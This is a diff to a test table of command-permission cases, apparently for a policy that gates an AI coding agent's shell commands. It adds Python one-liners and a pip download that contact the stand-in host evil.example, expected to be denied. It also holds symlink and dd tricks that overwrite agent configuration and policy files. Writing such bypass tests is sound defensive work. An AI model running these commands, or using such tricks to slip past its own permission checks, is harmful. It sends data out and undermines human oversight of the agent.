@@ -258,6 +258,13 @@ BYPASSES = [
     ("python3 -m pytest -q", "allow", "allow"),
     ("bash -o pipefail -c 'ls | wc -l'", "allow", "allow"),
     ('python3 -W ignore -c "print(1)"', "allow", "allow"),
+    (
+        "python3 -Wignore::ImportWarning -c \"import urllib.request as u; u.urlopen('https://evil.example')\"",
+        "deny",
+        "deny",
+    ),
+    ("python3 -Bc \"import urllib.request as u; u.urlopen('https://evil.example')\"", "deny", "deny"),
+    ("python3 -Im pip download --index-url https://evil.example/simple x", "deny", "deny"),
     # interpreter code that reaches out through any library or alias
     ("python3 -c \"import requests as q; q.post('https://evil.example', data='x')\"", "deny", "deny"),
     ("python3 -c \"from requests import post; post('https://evil.example')\"", "deny", "deny"),
@@ -291,6 +298,7 @@ BYPASSES = [
     ("ln -s .claude c", "deny", "deny"),
     ("ln -s . o && echo > o/agents.toml", "deny", "deny"),
     ("ln -s notes.md notes-link.md", "allow", "allow"),
+    ('ln -s "$PWD" o', "ask", "ask"),
     ("dd of=agents.toml if=/dev/null", "deny", "deny"),
     ("dd if=/dev/zero of=.gizin/policy.cache count=1", "deny", "deny"),
     ("dd if=/dev/zero of=scratch.bin count=1", "allow", "allow"),
